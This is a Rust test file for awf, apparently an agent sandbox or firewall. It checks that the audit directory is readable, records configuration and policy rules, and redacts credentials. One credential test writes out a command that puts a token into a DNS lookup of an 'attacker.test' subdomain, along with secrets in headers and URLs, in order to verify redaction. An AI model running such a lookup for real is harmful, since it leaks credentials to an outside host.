//! What a run leaves in the audit directory: complete, readable without root, and without credentials.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use awf_tests::{Run, Scratch, docker};
use serde_json::Value;

/// Every file below a directory, with its text.
fn texts(directory: &Path) -> Vec<(PathBuf, String)> {
    let mut found = Vec::new();
    for entry in fs::read_dir(directory).expect("it is there").flatten() {
        if entry.file_type().expect("a type").is_dir() {
            found.extend(texts(&entry.path()));
        } else {
            let bytes = fs::read(entry.path()).expect("it can be read");
            found.push((entry.path(), String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
    found
}

fn json(path: &Path) -> Value {
    let text =
        fs::read_to_string(path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    serde_json::from_str(&text).expect("JSON")
}

#[test]
fn what_was_decided_is_left_in_files_that_everybody_can_read() {
    let run =
        Run::allowing("example.com,*.example.org").option("--block-domains", "bad.example.com");
    let output = run.spawn("true").wait_with_output().expect("awf ends");
    assert!(output.status.success(), "{output:#?}");
    let audit = run.logs.join("audit");
    for (path, _text) in texts(&audit) {
        let mode = fs::metadata(&path).expect("it is there").permissions().mode() & 0o777;
        assert_eq!(mode, 0o644, "{}", path.display());
    }
    let config = json(&audit.join("awf-resolved-config.json"));
    assert_eq!(config["agentCommand"], "true");
    let said = &config["options"]["--block-domains"];
    assert_eq!(
        (&said["value"], &said["from"]),
        (&"bad.example.com".into(), &"command line".into())
    );
    let manifest = json(&audit.join("policy-manifest.json"));
    assert_eq!((&manifest["version"], &manifest["sslBumpEnabled"]), (&1.into(), &false.into()));
    let rules = manifest["rules"].as_array().expect("a list");
    let ids: Vec<&str> = rules.iter().filter_map(|rule| rule["id"].as_str()).collect();
    for id in ["deny-unsafe-ports", "deny-blocked-plain", "allow-both-plain", "allow-both-regex"] {
        assert!(ids.contains(&id), "{id}: {ids:?}");
    }
    assert_eq!(ids.last(), Some(&"deny-default"));
    let plan = json(&audit.join("awf-plan.redacted.json"));
    assert_eq!(plan["origins"], config["options"]);
    if docker().is_some() {
        let images = json(&audit.join("image-manifest.json"));
        assert_eq!(images["squid"]["source"], "present", "{images:#}");
    }
    assert!(!audit.join("diagnostics").exists(), "nobody asked for them");
}

#[test]
fn the_first_configuration_in_a_directory_stays_and_the_rest_is_the_last_runs() {
    let scratch = Scratch::new("audit");
    let audit = scratch.path().join("audit");
    for command in ["true # first", "true # second"] {
        let run = Run::new().option("--audit-dir", audit.to_str().expect("text"));
        assert!(run.spawn(command).wait().expect("awf ends").success());
    }
    assert_eq!(json(&audit.join("awf-resolved-config.json"))["agentCommand"], "true # first");
    let plan = json(&audit.join("awf-plan.redacted.json"));
    assert_eq!(plan["command"][2], "true # second");
}

/// A credential in every place from which awf could copy one, and what tells it in the end.
const CANARY: &str = "canary-";

#[test]
fn no_credential_is_left_wherever_it_was_passed() {
    let scratch = Scratch::new("canaries");
    let file = scratch.path().join("env");
    fs::write(&file, "FILE_SECRET=canary-of-the-file\n").expect("write it");
    let run = Run::allowing("example.com")
        .flag("--diagnostic-logs")
        .flag("--env-all")
        .option("--env", "DB_PASSWORD=canary-of-an-option")
        .option("--env-file", file.to_str().expect("text"))
        .caller_variable("OPENAI_API_KEY", "canary-of-openai")
        .caller_variable("GH_TOKEN", "canary-of-github")
        .caller_variable("OTEL_EXPORTER_OTLP_HEADERS", "x-key=canary-of-telemetry")
        .caller_variable(
            "GH_AW_OTLP_ENDPOINTS",
            r#"[{"url":"https://o.example","headers":{"K":"canary-of-json"}}]"#,
        )
        .caller_variable("PACKAGES", "https://user:canary-of-a-url@example.com/");
    // As a caller's shell would have filled it in; the last ones are told by their places alone.
    let line = "echo canary-of-openai canary-of-github canary-of-an-option canary-of-the-file canary-of-telemetry \
                canary-of-json canary-of-a-url | wc -c >/dev/null; \
                : --header 'Authorization: Bearer canary-in-a-header' https://u:canary-in-userinfo@example.com \
                'https://example.com/?api_key=canary-in-a-query' --password canary-as-an-argument; \
                X_TOKEN=canary-as-an-assignment getent ahosts canary-of-github.attacker.test; false";
    let output = run.spawn(line).wait_with_output().expect("awf ends");
    assert_eq!(output.status.code(), Some(1), "{output:#?}");
    let audit = run.logs.join("audit");
    assert!(audit.join("diagnostics").is_dir(), "{output:#?}");
    let config = json(&audit.join("awf-resolved-config.json"));
    let shown = config["agentCommand"].as_str().expect("a line");
    assert!(shown.contains("[REDACTED]") && shown.contains("wc -c"), "{shown}");
    for (path, text) in texts(&run.logs) {
        let found = text.find(CANARY).map(|at| &text[at..(at + 30).min(text.len())]);
        assert_eq!(found, None, "{}", path.display());
    }
    assert!(!String::from_utf8_lossy(&output.stderr).contains(CANARY), "{output:#?}");
}

#[test]
fn diagnostics_are_left_when_a_command_fails_and_only_then() {
    let left = |line: &str| {
        let run = Run::allowing("example.com").flag("--diagnostic-logs");
        let output = run.spawn(line).wait_with_output().expect("awf ends");
        let directory = run.logs.join("audit/diagnostics");
        (if directory.is_dir() { texts(&directory) } else { Vec::new() }, output)
    };
    assert!(left("true").0.is_empty());
    let (files, output) = left("curl -sS -o /dev/null https://example.com; exit 3");
    let text = |name: &str| {
        let found = files.iter().find(|(path, _text)| path.file_name() == Some(name.as_ref()));
        found.unwrap_or_else(|| panic!("{name}: {files:?} {output:?}")).1.clone()
    };
    assert_eq!(text("awf-agent.state"), "3\n");
    let mounts: Value = serde_json::from_str(&text("awf-agent.mounts.json")).expect("JSON");
    let is_root = |mount: &Value| mount["target"] == "/";
    assert!(mounts.as_array().expect("a list").iter().any(is_root), "{mounts:#}");
    let kernel: Value = serde_json::from_str(&text("kernel.json")).expect("JSON");
    let led = |door: &str| kernel["counters"][door].as_u64().unwrap_or_default();
    assert!(led("lead_transparent") + led("lead_proxy") > 0, "{kernel:#}");
    assert!(
        kernel["cgroup"]["cpu.stat"].is_string() || kernel["cgroup"]["cgroup.events"].is_string()
    );
    assert!(!text("awf-squid.log").is_empty());
    assert!(text("awf-plan.redacted.json").contains("\"origins\""));
    if docker().is_some() {
        let agent: Value = serde_json::from_str(&text("awf-agent.container.json")).expect("JSON");
        assert_eq!(agent["state"]["Status"], "exited", "{agent:#}");
    }
}
